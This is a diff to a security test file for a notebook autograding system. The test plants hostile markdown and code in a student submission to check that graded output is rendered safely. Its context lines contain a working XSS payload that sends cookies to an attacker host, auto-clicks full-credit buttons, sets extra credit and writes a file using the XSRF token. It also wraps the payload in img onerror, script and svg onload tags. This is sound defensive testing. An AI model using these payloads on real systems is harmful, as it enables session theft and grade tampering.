@@ -27,6 +27,7 @@ from nbformat.v4 import new_markdown_cell
 from browser_helpers import Lab
 from course_helpers import make_course, run
 from grading import sample_class
+from grading.cells import grade_id
 from grading.course import ASSIGNMENT, notebook_names
 from grading.sample_class import Q1
 
@@ -37,7 +38,8 @@ PAYLOAD = ("(function(){window.__pwned=(window.__pwned||0)+1;"
            "try{top.__pwned=(top.__pwned||0)+1}catch(e){}"
            f"fetch('http://{ATTACKER}/steal?c='+encodeURIComponent(document.cookie)).catch(function(){{}});"
            "document.querySelectorAll('.full-credit').forEach(function(b){b.click()});"
-           "document.querySelectorAll('input.extra-credit').forEach(function(i){i.value=99;i.dispatchEvent(new Event('change'))});"
+           "document.querySelectorAll('input.extra-credit').forEach(function(i){i.value=99;"
+           "i.dispatchEvent(new Event('change'))});"
            "var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'';"
            "fetch('/api/contents/pwned.txt',{method:'PUT',headers:{'X-XSRFToken':decodeURIComponent(x),"
            "'Content-Type':'application/json'},body:JSON.stringify({type:'file',format:'text',content:'pwned'})})"
@@ -52,7 +54,7 @@ BENIGN = r"""The gradient is $\partial L / \partial z_j = P_j - y_j$ and $a<b$ h
 **bold words** and `<script>` in code, shown as text.
 
 ![a figure](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==)
-"""
+"""  # noqa: E501 (a data: URI, on one line as a student would paste it)
 HOSTILE_MARKDOWN = BENIGN + f"""
 {MARKER_NOTE}
 
@@ -81,7 +83,7 @@ HOSTILE_MARKDOWN = BENIGN + f"""
 <style>@import url(http://{ATTACKER}/style.css);</style>
 
 <a id="file-link" href="evil.html">my notes</a>
-"""
+"""  # noqa: E501 (the payloads, one per line)
 _IMG = f'<img src=x onerror="{PAYLOAD}">'
 _SCRIPT = f"<script>{PAYLOAD}</script>"
 _SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PAYLOAD}">{_SCRIPT}</svg>'
@@ -125,10 +127,10 @@ def hostile_submission(root):
         nb = sample_class.solved_notebook(name, root / "source" / ASSIGNMENT, root / "release" / ASSIGNMENT)
         if name == Q1:
             for cell in nb.cells:
-                grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
-                if grade_id == "derivation":
+                cell_id = grade_id(cell)
+                if cell_id == "derivation":
                     cell.source = HOSTILE_MARKDOWN
-                elif grade_id == "softmax":
+                elif cell_id == "softmax":
                     cell.source += "\n" + HOSTILE_CODE
             # an unmarked cell of the student's own, with the payload too
             nb.cells.insert(3, new_markdown_cell(f'<img src=x onerror="{PAYLOAD}"> my own cell'))
@@ -151,7 +153,7 @@ def course(tmp_path_factory):
     run([sys.executable, "-m", "grading.runner", "--workers", "1",
          "--student", STUDENT, "--student", "reference"], cwd=root)
     graded = nbformat.read(root / "autograded" / STUDENT / ASSIGNMENT / f"{Q1}.ipynb", as_version=4)
-    outputs = [o for c in graded.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "softmax"
+    outputs = [o for c in graded.cells if grade_id(c) == "softmax"
                for o in c.get("outputs", [])]
     mimes = {m for o in outputs for m in o.get("data", {})}
     # the attack must really be in the graded copy, or the test below proves nothing
